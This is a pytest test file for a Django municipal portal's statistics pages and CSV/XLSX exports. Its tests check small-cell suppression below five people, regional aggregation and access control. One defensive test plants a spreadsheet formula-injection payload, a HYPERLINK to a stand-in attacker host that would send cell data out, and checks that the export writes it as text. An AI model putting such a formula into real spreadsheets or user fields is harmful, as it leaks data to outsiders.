"""Datenwissen pages and exports: no cell below 5 people is shown or exported."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from leuchtfeuer.accounts.models import Role
from leuchtfeuer.places.tests.factories import MunicipalityFactory, RegionFactory
from leuchtfeuer.portal.models import InquiryStat


def stat(municipality, **kw):
    data = {
        "month": timezone.localdate().replace(day=1),
        "life_phase": "junge-familie",
        "needs": ["job"],
        "origin": "11",
        "outcome": "neu",
    } | kw
    return InquiryStat.objects.create(municipality=municipality, **data)


@pytest.fixture
def counts(municipality):
    """12 young families (8 moved in), 5 after training, 3 skilled workers, 1 retiree; two origins."""
    for i in range(12):
        stat(
            municipality,
            outcome="zugezogen" if i < 8 else "nicht_zugezogen" if i < 11 else "gespraech",
            days_to_decision=30 + i if i < 11 else None,
            origin="11" if i < 7 else "05",
        )
    for _ in range(3):
        stat(municipality, life_phase="fachkraft", needs=["job", "housing"])
    stat(municipality, life_phase="ruhestand", needs=["housing"], origin="ausland")
    for _ in range(5):
        stat(municipality, life_phase="nach-ausbildung", needs=["job"])


def numbers_in(text: str) -> list[int]:
    return [int(n) for n in re.findall(r"(?<![\d.,/-])\d+(?![\d.,/%-])", text)]


def test_page_shows_no_cell_below_five(staff_client, role_user, municipality, counts):
    client = staff_client(role_user(Role.KOORDINATION, municipality))
    html = client.get(f"/kommunen/{municipality.slug}/lotse/statistik/").content.decode()
    tables = re.findall(r'<table class="stat">(.*?)</table>', html, re.S)
    assert len(tables) == 6
    cells = [c for t in tables for c in re.findall(r'<td class="num">([^<]*)</td>', t)]
    assert cells and all(c == "&lt;5" or int(c) >= 5 for c in cells)
    # Life phase: 12 families shown; 3 skilled workers and 1 retiree hidden, and the 5 after
    # training too — otherwise 21 − 12 − 5 = 4 would give the hidden ones away.
    phase = tables[0]
    assert re.search(r"Junge Familien</th><td class=\"num\">12<", phase)
    assert re.search(r"Fachkräfte</th><td class=\"num\">&lt;5<", phase)
    assert re.search(r"Nach Ausbildung oder Studium</th><td class=\"num\">&lt;5<", phase)
    assert 'insgesamt</th><td class="num">21<' in phase
    # Conversion needs 5+ on both sides: 8 moved, 3 not → hidden.
    assert "zugezogen (Anteil der entschiedenen Fälle)</dt><dd>&lt;5" in html


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_contain_no_count_below_five(staff_client, role_user, municipality, counts, fmt):
    client = staff_client(role_user(Role.LOTSE, municipality))
    response = client.get(f"/kommunen/{municipality.slug}/lotse/statistik.{fmt}")
    assert response.status_code == 200
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(response.content.decode()), delimiter=";"))
    else:
        sheet = load_workbook(io.BytesIO(response.content)).active
        rows = [[("" if v is None else str(v)) for v in row] for row in sheet.iter_rows(values_only=True)]
    counts_col = [
        r[1] for r in rows if len(r) > 1 and r[0] not in ("Datenwissen", "Hinweis") and r[1] != "Anzahl"
    ]
    values = [v for v in counts_col if v]
    assert "<5" in values
    for value in values:
        assert value == "<5" or float(value.replace(",", ".")) >= 5, value
    assert ["Junge Familien", "12"] in [r[:2] for r in rows]


def test_kreis_scope_adds_the_towns_of_the_kreis(staff_client, role_user, municipality, counts):
    neighbour = MunicipalityFactory(
        region=RegionFactory(
            ags=municipality.region.ags[:5] + "999", kreis_code=municipality.region.kreis_code
        )
    )
    for _ in range(4):
        stat(neighbour, life_phase="fachkraft")
    client = staff_client(role_user(Role.KOORDINATION, municipality))
    html = client.get(f"/kommunen/{municipality.slug}/lotse/statistik/?bereich=kreis").content.decode()
    assert re.search(r"Fachkräfte</th><td class=\"num\">7<", html)  # 3 + 4 together reach the threshold


def test_statistics_need_a_role(client, user_factory, municipality, counts):
    client.force_login(user_factory())
    assert client.get(f"/kommunen/{municipality.slug}/lotse/statistik/").status_code == 403


def test_months_outside_the_window_are_not_in_the_month_table(staff_client, role_user, municipality):
    for _ in range(6):
        stat(municipality, month=(timezone.localdate() - timedelta(days=800)).replace(day=1))
    client = staff_client(role_user(Role.KOORDINATION, municipality))
    html = client.get(f"/kommunen/{municipality.slug}/lotse/statistik/").content.decode()
    month_table = re.findall(r'<table class="stat">(.*?)</table>', html, re.S)[3]
    assert 'insgesamt</th><td class="num">&lt;5<' in month_table


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_write_a_formula_name_as_text(staff_client, role_user, municipality, counts, fmt):
    """The town's display name is typed by people: a spreadsheet program must not run it
    (issue 13, defect 6); the counts stay numbers."""
    formula = '=HYPERLINK("https://angreifer.example/?d="&B5,"Details")'
    municipality.display_name = formula
    municipality.save(update_fields=["display_name"])
    client = staff_client(role_user(Role.LOTSE, municipality))
    response = client.get(f"/kommunen/{municipality.slug}/lotse/statistik.{fmt}")
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(response.content.decode()), delimiter=";"))
        assert rows[0] == ["Datenwissen", "'" + formula]
    else:
        sheet = load_workbook(io.BytesIO(response.content)).active
        assert (sheet["B1"].value, sheet["B1"].data_type) == (formula, "s")
        families = next(row for row in sheet.iter_rows() if row[0].value == "Junge Familien")
        assert (families[1].value, families[1].data_type) == (12, "n")
